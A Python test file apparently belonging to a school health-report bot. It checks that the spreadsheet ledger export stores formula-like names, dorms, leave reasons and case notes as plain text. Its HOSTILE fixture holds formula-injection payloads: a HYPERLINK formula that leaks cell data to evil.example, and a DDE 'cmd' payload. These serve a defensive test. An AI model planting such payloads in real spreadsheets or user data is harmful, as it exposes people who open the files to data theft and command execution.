"""Ledger cells from rosters and chat that look like formulas are written as text.

A name, dorm, leave reason or case note such as "=HYPERLINK(...)" would otherwise run when a
counselor opens the workbook (CSV/formula injection).
"""

from __future__ import annotations

import zipfile

import pytest
from openpyxl import load_workbook

from bot.cli import main
from storage.db import open_db
from tests.commands_helpers import seed
from tests.school_factory import add_report as report

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "dorm": "+1+cmd|' /C calc'!A0",
    "leave": "-2+3",
    "reason": "@SUM(1,2)",
    "note": "\t=1+1",
    "poster": "\r=2+2",
}


@pytest.fixture
def hostile_school(tmp_path):
    path = tmp_path / "pingan.db"
    db = open_db(path)
    seed(db)
    report(db, "2021001", "2020-02-10", temperature=36.5, abnormal=False)
    report(db, "2021002", "2020-02-10", temperature=37.8, abnormal=True, source="补报",
           posted_by="T001")  # fmt: skip
    with db.atomic():
        db.execute("UPDATE people SET name = ? WHERE id = '2021001'", [HOSTILE["name"]])
        db.execute("UPDATE people SET name = ? WHERE id = 'T001'", [HOSTILE["poster"]])
        db.execute(
            "UPDATE nodes SET name = ? WHERE id = (SELECT dorm_id FROM people"
            " WHERE id = '2021001')",
            [HOSTILE["dorm"]],
        )
        db.execute(
            "INSERT INTO leaves (person_id, start_day, end_day, reason, created_at)"
            " VALUES ('2021004', '2020-02-10', '2020-02-10', ?, '2020-02-09T10:00:00+08:00')",
            [HOSTILE["leave"]],
        )
        db.execute(
            "INSERT INTO cases (person_id, opened_day, opened_at, reason, last_abnormal_day,"
            " status, closed_at, closed_by, close_note) VALUES ('2021002', '2020-02-10',"
            " '2020-02-10T09:00:00+08:00', ?, '2020-02-10', 'closed',"
            " '2020-02-10T12:00:00+08:00', 'T001', ?)",
            [HOSTILE["reason"], HOSTILE["note"]],
        )
    db.close()
    config = tmp_path / "config.yaml"
    config.write_text(f"storage:\n  path: {path}\n", encoding="utf-8")
    return tmp_path, config


def test_formula_like_text_is_written_as_text(hostile_school, capsys):
    tmp, config = hostile_school
    out = tmp / "台账.xlsx"
    code = main(["export", "--config", str(config), "--from", "2020-02-10", "--to",
                 "2020-02-10", "-o", str(out)])  # fmt: skip
    assert code == 0, capsys.readouterr().err
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(out)
    texts = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    texts[cell.value] = cell
    for key in ("name", "reason", "note"):
        assert HOSTILE[key] in texts, key
        assert texts[HOSTILE[key]].quotePrefix
    assert any(HOSTILE["dorm"] in t for t in texts)
    assert any(t.startswith("请假：" + HOSTILE["leave"]) for t in texts)
